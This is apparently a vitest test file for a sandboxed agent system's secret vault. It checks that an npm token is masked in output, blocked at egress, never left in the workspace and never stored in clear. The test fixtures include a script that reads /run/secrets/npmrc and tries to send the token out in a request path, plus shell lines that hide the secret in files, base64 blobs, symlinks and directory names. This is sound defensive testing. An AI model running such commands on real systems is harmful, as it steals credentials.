import { spawnSync } from 'node:child_process'
import { existsSync, readFileSync, renameSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { dresses } from '#guards/secrets/known-value.ts'
import {
  FILES,
  given,
  type Journey,
  type RunningServer,
  refusal,
  startJourney,
} from '#test/support/journey.ts'
import { create, type Run, shell } from '#test/support/journey-model.ts'

const TOKEN = 'npm_Zx81q+mirror/private%token=0042'
const NPMRC = `registry=https://npm.example.org/\n//npm.example.org/:_authToken=${TOKEN}\n`

/** Says the secret in every way, tries to carry it out, and fails. */
const TELL = `
const { readFileSync } = require('node:fs')
const file = readFileSync('/run/secrets/npmrc', 'utf8')
const token = file.trim().split('authToken=')[1]
const base64 = Buffer.from(file).toString('base64')
console.log('as it is', token)
console.log('encoded', encodeURIComponent(token), Buffer.from(token).toString('base64'))
console.log(base64.match(/.{1,40}/g).join('\\n'))
console.log('Basic', Buffer.from('bot:' + token).toString('base64'))
const path = 'http://npm.example.org/' + encodeURIComponent(token) + '/package'
require('node:http').get({ host: '127.0.0.1', port: 3128, path, headers: { host: 'npm.example.org' } }, (res) => {
  console.log(res.statusCode)
  process.exit(1)
})
`

let journey: Journey
let server: RunningServer
beforeAll(async () => {
  journey = await startJourney({ ...FILES, 'tell.cjs': TELL, ...yaml('node tell.cjs') })
  journey.model.play('work', WORK)
  journey.model.play('manifest', [create('package.json', '{}\n')])
  server = await journey.serve()
})
afterAll(() => journey.close())

const WORK: Run = [shell('ls /run'), create('src/new.txt', 'new\n')]

function yaml(setup: string, gates = '[]'): Record<string, string> {
  return {
    'airlock.yaml': `version: 1\nsecrets: [npmrc]\nsetup: [${JSON.stringify(setup)}]\ngates: ${gates}\n`,
  }
}

function postmasterOf(dataDirectory: string): number {
  return Number(readFileSync(join(dataDirectory, 'postgres/cluster/postmaster.pid'), 'utf8').split('\n')[0])
}

async function failed(model = 'work') {
  const task = await server.submit({ model })
  return server.reaches(task.number, 'failed')
}

test('a secret that nobody stored fails the setup, and says who has to do what', async () => {
  expect((await failed()).cause).toMatchObject({
    code: 'setup_failed',
    rule: 'secrets.absent',
    remedy: expect.stringMatching(/airlock secret set \S+ npmrc < FILE/),
    details: { absent: ['npmrc'] },
  })
})

test('what setup says of a secret is masked in every dress, and it is stored nowhere in clear', async () => {
  const project = given(await server.client.projects()).items[0]?.name ?? ''
  given(await server.client.setSecret(project, { name: 'npmrc', content: NPMRC }))
  const listed = await journey.airlock('secret', 'list', project)
  expect([listed.exit, listed.out]).toEqual([
    0,
    expect.stringMatching(/npmrc +1 +\d+ bytes .* by ada +never/),
  ])
  const task = await failed()
  const details = task.cause?.details as { output: string[]; refused: string }
  expect(details.output.slice(0, 2)).toEqual([
    'as it is [secret npmrc]',
    expect.stringMatching(/^encoded \[secret npmrc\] \[secret npmrc\].{0,3}$/),
  ])
  expect(details.output.at(-2)).toMatch(/^Basic .{0,8}\[secret npmrc\]/)
  expect(details.refused).toBe('GET http://npm.example.org/[secret npmrc]/package')
  expect(task.egress?.requests).toMatchObject([{ path: '/[secret npmrc]/package' }])

  const [used] = given(await server.client.secrets(project)).items
  expect(used?.lastUsed).toEqual({
    at: expect.any(String),
    version: 1,
    task: task.number,
    by: given(await server.client.me()).person,
  })
  for (const pid of [server.pid, postmasterOf(journey.dataDirectory)])
    expect(readFileSync(`/proc/${pid}/limits`, 'utf8')).toMatch(/^Max core file size +0 +0 /m)

  await server.stop()
  const holds = (wanted: readonly string[]) => {
    const places = [journey.dataDirectory, journey.runtimeDirectory]
    const found = spawnSync('grep', ['-rlaF', '-f', '-', '--', ...places], { input: wanted.join('\n') })
    return found.stdout.toString().split('\n').filter(Boolean)
  }
  const base64 = Buffer.from(NPMRC).toString('base64')
  const dressed = dresses(TOKEN).map(([text]) => text)
  expect(holds([TOKEN, ...dressed, ...(base64.match(/.{40}/g) ?? [])])).toEqual([])
  const keys = join(journey.dataDirectory, 'keys/secret-keys.json')
  expect((statSync(keys).mode & 0o777).toString(8)).toBe('600')
  const [{ key }] = JSON.parse(readFileSync(keys, 'utf8')).keys
  expect(holds([key])).toEqual([keys])
  server = await journey.serve()
})

test('setup alone sees it: neither the agent, nor a gate, nor setup that runs over a patch', async () => {
  const seen = '[ -e /run/secrets/npmrc ] && echo yes >seen || echo no >seen; ! touch /run/secrets/npmrc'
  const gate = 'echo "a:1: error: saw it: $(cat seen)"; [ ! -e /run/secrets ] && [ "$(cat seen)" = yes ]'
  journey.commit(yaml(seen, JSON.stringify([{ name: 'seen', parser: 'lines', run: gate }])))
  const task = await server.submit({ model: 'manifest', budget: { iterations: 1 } })
  const ready = await server.reaches(task.number, 'awaiting_review')
  expect(ready.gates?.gates).toMatchObject([
    { base: 'pass', result: 'fail', new: [{ message: expect.any(String) }] },
  ])
  expect(ready.gates?.gates[0]?.new[0]?.message).toContain('saw it: no')
  journey.commit(yaml(seen))
  const other = await server.submit({ model: 'work' })
  await server.reaches(other.number, 'awaiting_review')
  const { body } = journey.model.requests().at(-1) ?? {}
  const shown = JSON.stringify(body?.messages)
  expect([/airlock/.test(shown), /secrets/.test(shown), /private%token/.test(shown)]).toEqual([
    true,
    false,
    false,
  ])
})

test.each([
  ['as it is', 'mkdir -p a/b && cp /run/secrets/npmrc a/b/.hidden', './a/b/.hidden'],
  ['in base64', 'base64 -w0 </run/secrets/npmrc >.git/kept', './.git/kept'],
  ['as what a link points to', 'ln -s "$(sed -n s/.*authToken=//p /run/secrets/npmrc)" linked', './linked'],
  ['as a name', 'mkdir "$(base64 -w0 </run/secrets/npmrc)"', '(a name that holds it)'],
])('a setup that leaves the secret %s in the workspace fails', async (_, setup, file) => {
  journey.commit(yaml(setup))
  expect((await failed()).cause).toMatchObject({
    code: 'setup_failed',
    rule: 'secrets.left',
    details: { files: [file] },
  })
})

test('a secret of several words is looked for as well', async () => {
  const project = given(await server.client.projects()).items[0]?.id ?? ''
  given(await server.client.setSecret(project, { name: 'phrase', content: 'correct horse battery staple\n' }))
  const setup = 'echo "open with: $(cat /run/secrets/phrase)!" >kept'
  journey.commit({
    'airlock.yaml': `version: 1\nsecrets: [phrase]\nsetup: [${JSON.stringify(setup)}]\ngates: []\n`,
  })
  expect((await failed()).cause).toMatchObject({ rule: 'secrets.left', details: { files: ['./kept'] } })
  given(await server.client.removeSecret(project, 'phrase'))
})

test('what a failed setup leaves is kept for a look around, but never with a secret in it', async () => {
  const kept: unknown[] = []
  for (const setup of ['cp /run/secrets/npmrc here && exit 1', 'cp /run/secrets/npmrc here', 'exit 1']) {
    journey.commit(yaml(setup))
    const { number } = await server.submit({ model: 'work', preserveSeconds: 600 })
    const { cause, preserved } = await server.reaches(number, 'failed')
    kept.push([cause?.rule, preserved?.phase])
  }
  expect(kept).toEqual([
    [undefined, undefined],
    ['secrets.left', undefined],
    [undefined, 'prepare'],
  ])
})

test('only an owner stores or forgets, and nobody is told the content', async () => {
  const project = given(await server.client.projects()).items[0]?.id ?? ''
  const person = { name: 'Mo', email: 'mo@example.org', role: 'maintainer' as const }
  const { token } = given(await server.client.addPerson(person))
  const secret = { name: 'other', content: 'something else' }
  expect(refusal(await server.as(token).setSecret(project, secret)).code).toBe('permission_denied')
  expect(refusal(await server.as(token).removeSecret(project, 'npmrc')).code).toBe('permission_denied')
  expect(JSON.stringify(given(await server.as(token).secrets(project)))).not.toContain('private')
  expect(refusal(await server.client.setSecret(project, { ...secret, name: '../x' })).code).toBe(
    'invalid_input',
  )
  given(await server.client.removeSecret(project, 'npmrc'))
  expect(refusal(await server.client.removeSecret(project, 'npmrc')).code).toBe('not_found')
  const { items } = given(await server.client.auditEntries({ limit: 200 }))
  const said = items
    .map(({ entry }) => JSON.parse(entry))
    .filter(
      ({ action, data }) => /^secret\./.test(action) && action !== 'secret.used' && data.name === 'npmrc',
    )
  expect(said.map(({ action, data }) => [action, data])).toEqual([
    ['secret.removed', { name: 'npmrc', context: 'task' }],
    ['secret.set', { name: 'npmrc', context: 'task', version: 1, bytes: NPMRC.length }],
  ])
  const uses = items.map(({ entry }) => JSON.parse(entry)).filter(({ action }) => action === 'secret.used')
  expect(uses.length).toBeGreaterThan(5)
  const { person: me } = given(await server.client.me())
  expect(uses.at(-1)).toMatchObject({
    actor: { kind: 'system' },
    subject: project,
    data: { task: expect.stringMatching(/^tsk_/), for: me.id, versions: { npmrc: 1 } },
  })
})

test('a secret of deployments reaches no setup, and no task goes on while the key of a secret is lost', async () => {
  const project = given(await server.client.projects()).items[0]?.id ?? ''
  given(await server.client.setSecret(project, { name: 'npmrc', content: NPMRC, context: 'deployment' }))
  journey.commit(yaml('true'))
  expect((await failed()).cause).toMatchObject({ rule: 'secrets.absent', details: { absent: ['npmrc'] } })
  given(await server.client.removeSecret(project, 'npmrc', { context: 'deployment' }))

  given(await server.client.setSecret(project, { name: 'npmrc', content: NPMRC }))
  const keys = join(journey.dataDirectory, 'keys/secret-keys.json')
  renameSync(keys, `${keys}.lost`)
  expect((await failed()).cause).toMatchObject({ code: 'vault_unavailable', rule: 'vault.key-lost' })
  renameSync(`${keys}.lost`, keys)
})

test('what an older version kept in a file is in the vault after a start, and a signal opens no debugger', async () => {
  const project = given(await server.client.projects()).items[0]?.id ?? ''
  given(await server.client.removeSecret(project, 'npmrc'))
  await server.stop()
  const file = join(journey.dataDirectory, 'keys/secrets.json')
  const secrets = [{ project, name: 'npmrc', content: NPMRC, createdAt: '2026-01-01T00:00:00.000Z' }]
  writeFileSync(file, JSON.stringify({ version: 1, secrets }), { mode: 0o600 })
  server = await journey.serve()
  expect(existsSync(file)).toBe(false)
  process.kill(server.pid, 'SIGUSR1')
  journey.commit(yaml('grep -q token=0042 /run/secrets/npmrc'))
  await server.reaches((await server.submit({ model: 'work' })).number, 'awaiting_review')
  const [moved] = given(await server.client.secrets(project)).items
  expect([moved?.createdBy, moved?.lastUsed?.version]).toEqual([undefined, 1])
  expect(server.said()).not.toContain('Debugger')
})
